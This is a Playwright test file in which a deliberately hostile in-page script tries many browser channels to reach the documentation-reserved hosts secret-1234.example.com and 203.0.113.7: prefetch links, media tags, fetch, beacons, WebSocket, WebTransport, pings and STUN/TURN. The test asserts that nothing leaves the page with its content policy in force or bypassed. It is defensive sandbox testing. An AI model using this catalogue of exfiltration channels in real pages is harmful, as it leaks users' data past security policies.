import { expect, test } from '@playwright/test'
import { launchTraced, nothing } from './traced'

// A script in the page that tries every way out of it, with the page's policy in force and, should that ever fail,
// without. The names are of no one, the addresses are those that documents are free to use.

/** Runs in the page; resolves once each attempt has been refused, or has had the time to do what it does. */
async function getOut(): Promise<void> {
  const append = (tag: string, fields: object) => {
    document.body.append(Object.assign(document.createElement(tag), fields))
  }
  const call = async (urls: string) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] })
    const gathered = new Promise((resolve) => {
      peer.addEventListener('icegatheringstatechange', () => {
        if (peer.iceGatheringState === 'complete') resolve(null)
      })
      setTimeout(resolve, 3000)
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await gathered
  }
  const attempts: ((to: string) => unknown)[] = [
    (to) => {
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'stylesheet', 'icon', 'manifest']) {
        append('link', { rel, href: `https://${rel}.${to}/` })
        append('link', { rel, href: `https://${to}/${rel}` })
      }
    },
    (to) => {
      for (const tag of ['img', 'iframe', 'script', 'video', 'embed']) append(tag, { src: `http://${to}/${tag}` })
    },
    (to) => fetch(`http://${to}/fetch`, { mode: 'no-cors' }),
    (to) => fetch(`https://${to}/keep`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    (to) => navigator.sendBeacon(`http://${to}/beacon`, 'x'),
    (to) => new WebSocket(`ws://${to}/socket`),
    (to) => new EventSource(`http://${to}/events`),
    (to) => new WebTransport(`https://${to}/transport`).ready,
    (to) => window.open(`http://${to}/window`),
    (to) => {
      Object.assign(document.createElement('a'), { href: `http://${to}/link`, ping: `http://${to}/ping` }).click()
    },
    (to) => call(`stun:${to}:3478`),
    (to) => call(`turn:${to}:3478?transport=udp`),
    (to) => call(`turn:${to}:3478?transport=tcp`),
    (to) => call(`turns:${to}:5349?transport=tcp`),
    () => new Promise((resolve) => setTimeout(resolve, 2000)),
  ]
  const all = ['secret-1234.example.com', '203.0.113.7'].flatMap((to) =>
    attempts.map((attempt) => [attempt, to] as const),
  )
  await Promise.allSettled(all.map(([attempt, to]) => Promise.resolve(to).then(attempt)))
}

for (const policy of ['in force', 'failed'] as const) {
  test(`a hostile script in the page, its policy ${policy}: not one packet, not one name`, async () => {
    const { page, end } = await launchTraced(`A hostile script in the page, its policy ${policy}`, {
      bypassCSP: policy === 'failed',
    })
    await page.evaluate(getOut)
    expect(await end()).toEqual(nothing)
  })
}
